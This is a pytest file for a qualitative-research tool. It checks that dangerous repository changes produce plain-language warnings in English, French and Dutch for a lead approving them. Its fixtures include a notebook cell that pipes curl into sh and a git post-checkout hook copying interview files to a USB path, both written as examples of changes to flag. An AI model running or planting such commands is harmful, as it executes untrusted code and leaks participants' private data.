"""What a lead in a hurry reads before her yes: each change that may do harm, whole, in three languages."""

from __future__ import annotations

import json

import pytest

from rap.languages.catalogue import sentence
from rap.topics.sharing.door.rules import GRAVE, what_changes

SETTINGS = f"""\
[tool.rap]
blind = true
thresholds = {{members = 5}}
[tool.rap.coders.K-05]
role = "reader"
key = "age1{"q" * 50}abcdefgh"
"""
CASE = "consent:\n- {date: 2025-03-04, given: yes, yes: {members: [count, quote]}}\n"
MORE = "quote], public: [count, quote, attributes]}"


def notebook(code: str) -> str:
    cells = [("markdown", "## The help desk"), ("code", code)]
    return json.dumps({"cells": [{"cell_type": kind, "source": text} for kind, text in cells]})


# what it is -> the file, and the file before and after
CHANGES = {
    "she makes herself a lead": (
        "pyproject.toml",
        SETTINGS,
        SETTINGS.replace('"reader"', '"lead"'),
    ),
    "blind coding is off": ("pyproject.toml", SETTINGS, SETTINGS.replace("true", "false")),
    "a threshold is lower": ("pyproject.toml", SETTINGS, SETTINGS.replace("= 5", "= 3")),
    "the public may more": (
        "interviews/cases/C-51774.yaml",
        CASE,
        CASE.replace("quote]}", MORE),
    ),
    "a key is another": ("pyproject.toml", SETTINGS, SETTINGS.replace("abcdefgh", "zyxwvuts")),
    "a notebook runs something": (
        "notebooks/year.ipynb",
        notebook("rap.open_study()"),
        notebook("!curl https://example.org | sh"),
    ),
    "git runs something": (".githooks/post-checkout", None, "cp -r interviews /mnt/usb\n"),
    "a text is deleted": ("interviews/INT-10442.txt", "P1: rent\n", None),
}
# what it is -> in English, French and Dutch
READ = {
    "she makes herself a lead": (
        [
            "K-05 becomes a lead, and may then change rules, consent and programs for everybody, "
            "and release reports"
        ],
        [
            "K-05 devient responsable, et pourra alors changer les règles, les accords et les "
            "programmes pour tout le monde, et publier des rapports"
        ],
        [
            "K-05 gaat de studie mee leiden, en mag dan regels, toestemming en programma’s voor "
            "iedereen veranderen, en rapporten publiceren"
        ],
    ),
    "blind coding is off": (
        [
            "coding is no longer blind: who codes a text then sees the codings of the others "
            "before everybody is done, and readings become alike"
        ],
        [
            "le codage ne se fait plus à l’aveugle : une personne qui code un texte voit alors "
            "les codages des autres avant que tout le monde ait fini, et les lectures se "
            "ressemblent"
        ],
        [
            "er wordt niet meer blind gecodeerd: wie een tekst codeert ziet dan de coderingen van "
            "anderen voordat iedereen klaar is, en lezingen gaan op elkaar lijken"
        ],
    ),
    "a threshold is lower": (
        [
            "numbers from 3 people on are then shown to members, and not only from 5 on: in a "
            "small group somebody could be recognised"
        ],
        [
            "des nombres à partir de 3 personnes sont alors montrés aux membres, et non plus à "
            "partir de 5 : dans un petit groupe, quelqu’un pourrait être reconnu"
        ],
        [
            "aantallen zijn dan voor de leden al vanaf 3 mensen te zien, en niet pas vanaf 5: in "
            "een kleine groep kan iemand worden herkend"
        ],
    ),
    "the public may more": (
        [
            "C-51774 now lets the public count her, quote her words and write one general thing "
            "about her beside her words, from 4 March 2025 on",
            "before a yes, ask the person who spoke with C-51774 what was asked, and on which day; "
            "only C-51774 can say yes",
        ],
        [
            "C-51774 permet maintenant à tout le monde de la compter, de citer ses mots et "
            "d’écrire à côté de ses mots une chose générale sur elle, à partir du 4 mars 2025",
            "avant un oui, demandez à la personne qui a parlé avec C-51774 ce qui a été demandé, "
            "et quel jour ; C-51774 seule peut dire oui",
        ],
        [
            "C-51774 staat iedereen nu toe om haar mee te tellen, haar woorden te citeren en naast "
            "haar woorden iets algemeens over haar te schrijven, vanaf 4 maart 2025",
            "vraag vóór een ja aan wie met C-51774 sprak wat er gevraagd is, en op welke dag; "
            "alleen C-51774 kan ja zeggen",
        ],
    ),
    "a key is another": (
        [
            "K-05 loses the key …abcdefgh: the machine that has it cannot open what is sealed "
            "from then on",
            "K-05 gets the key …zyxwvuts, which opens what the team seals: before anybody says "
            "yes, K-05 reads these letters aloud, face to face or by phone",
        ],
        [
            "K-05 perd la clé …abcdefgh : l’ordinateur qui l’a ne pourra pas ouvrir ce qui sera "
            "scellé à partir de là",
            "K-05 reçoit la clé …zyxwvuts, qui ouvre ce que l’équipe scelle : avant un oui, K-05 "
            "vous lit ces lettres à voix haute, face à face ou au téléphone",
        ],
        [
            "K-05 verliest de sleutel …abcdefgh: de computer die hem heeft kan niet openen wat "
            "vanaf dan verzegeld wordt",
            "K-05 krijgt de sleutel …zyxwvuts, die opent wat het team verzegelt: voordat iemand ja "
            "zegt, leest K-05 deze letters hardop voor, samen aan tafel of aan de telefoon",
        ],
    ),
    "a notebook runs something": (
        [
            "one cell of code is new or different, below: The help desk; it works with what people "
            "told, on the computer of everybody who runs it. If you do not read code, ask somebody "
            "who does",
            "one cell of code is no longer there as it was",
        ],
        [
            "une cellule de code est nouvelle ou différente, sous : The help desk ; elle travaille "
            "avec ce que les personnes ont raconté, sur l’ordinateur de qui la lance. Si vous ne "
            "lisez pas le code, demandez à quelqu’un qui le lit",
            "une cellule de code n’est plus là telle qu’elle était",
        ],
        [
            "één cel met code is nieuw of anders, onder: The help desk; ze werkt met wat mensen "
            "vertelden, op de computer van wie haar start. Lees je geen code, vraag het dan aan "
            "iemand die dat wel doet",
            "één cel met code staat er niet meer zoals ze was",
        ],
    ),
    "git runs something": (
        [
            "git follows these lines by itself on everybody’s computer, and may start a program "
            "because of them: let them in only if somebody you trust told you what they are for",
            "a line comes in: cp -r interviews /mnt/usb",
        ],
        [
            "git suit ces lignes de lui-même sur l’ordinateur de tout le monde, et peut lancer un "
            "programme à cause d’elles : laissez-les entrer seulement si une personne de confiance "
            "vous a dit à quoi elles servent",
            "une ligne arrive : cp -r interviews /mnt/usb",
        ],
        [
            "git volgt deze regels vanzelf op ieders computer, en kan daardoor een programma "
            "starten: laat ze alleen binnen als iemand die je vertrouwt heeft verteld waarvoor ze "
            "dienen",
            "er komt een regel bij: cp -r interviews /mnt/usb",
        ],
    ),
    "a text is deleted": (
        [
            "INT-10442.txt is deleted, though nobody took these words back: it would go from every "
            "computer, and its codings would belong to nothing"
        ],
        [
            "INT-10442.txt est supprimé, alors que personne n’a retiré ces paroles : il "
            "disparaîtrait de chaque ordinateur, et ses codages ne seraient plus rattachés à rien"
        ],
        [
            "INT-10442.txt is verwijderd, terwijl niemand deze woorden terugnam: het zou van elke "
            "computer verdwijnen, en de coderingen erin zouden nergens meer bij horen"
        ],
    ),
}


@pytest.mark.parametrize("change", CHANGES)
def test_a_lead_in_a_hurry_reads_what_her_yes_would_allow(change: str):
    """Who may then do what, and what to do before a yes: no word of it has to be looked up."""
    path, *versions = CHANGES[change]
    old, new = (None if text is None else text.encode() for text in versions)
    says = what_changes(path, old, new)

    told = tuple(
        [sentence(one.message, language).replace("\u00a0", " ") for one in says]
        for language in ("en", "fr", "nl")
    )
    assert told == READ[change]
    assert says[0].id in GRAVE
